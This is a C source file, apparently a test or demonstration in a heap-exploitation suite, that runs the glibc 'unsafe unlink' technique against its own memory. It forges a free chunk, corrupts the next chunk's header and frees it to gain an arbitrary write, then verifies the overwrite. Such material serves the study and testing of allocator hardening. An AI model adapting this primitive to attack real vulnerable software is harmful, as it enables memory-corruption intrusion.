/* tech-unsafe-unlink: a fake free chunk inside block 0, whose list links
   point around a global pointer to block 0 so that glibc's link checks
   (fd->bk == p, bk->fd == p) hold.  An overflow of block 0 into block 1's
   header claims the fake chunk is free (prev_size, PREV_INUSE clear);
   freeing block 1 unlinks the fake chunk, which makes the global pointer
   point at itself minus 3 words.  Through it the program then overwrites
   a target word.  Goal: the target word holds the attacker's value.  */

#include "tech-support.h"

/* The program's pointer to block 0.  Volatile: the attack writes it
   through itself, which the compiler would not otherwise expect.  */
static size_t *volatile chunk0_ptr;
static size_t target_word = 0x1111;

int
main (void)
{
  tech_begin ("unsafe unlink");
  chunk0_ptr = tech_keep (malloc (0x420));
  size_t *chunk1 = tech_keep (malloc (0x420)); /* beyond the tcache */
  void *guard = tech_keep (malloc (0x10));
  tech_require_adjacent (chunk0_ptr, chunk1, 0x430);

  /* The fake chunk starts at block 0's user data and ends where block
     1's chunk starts.  */
  uintptr_t home = (uintptr_t) &chunk0_ptr;
  struct tech_chunk *fake = (struct tech_chunk *) chunk0_ptr;
  fake->size = 0x420;
  fake->fd = (void *) (home - 3 * sizeof (size_t)); /* so fd->bk is chunk0_ptr */
  fake->bk = (void *) (home - 2 * sizeof (size_t)); /* so bk->fd is chunk0_ptr */
  fake->fd_nextsize = NULL;

  /* The overflow into block 1's header.  */
  struct tech_chunk *c1 = tech_chunk_of (chunk1);
  c1->prev_size = 0x420;
  c1->size &= ~(size_t) 1;
  tst_info ("freeing %p: its header says the fake chunk %p before it is free",
            chunk1, fake);
  free (tst_opaque_ptr (chunk1));

  tst_info ("chunk0_ptr is now %p (&chunk0_ptr = %p)", (void *) chunk0_ptr,
            (void *) &chunk0_ptr);
  if (!tech_same (chunk0_ptr, (void *) (home - 3 * sizeof (size_t))))
    tech_result (false, "chunk0_ptr was not redirected to &chunk0_ptr - 3");
  chunk0_ptr[3] = (size_t) &target_word; /* chunk0_ptr = &target_word */
  chunk0_ptr[0] = 0x4242424242424242;
  free (guard);
  size_t seen = *(volatile size_t *) &target_word;
  tech_result (seen == 0x4242424242424242,
               "the target word was overwritten (now %#zx)", seen);
}
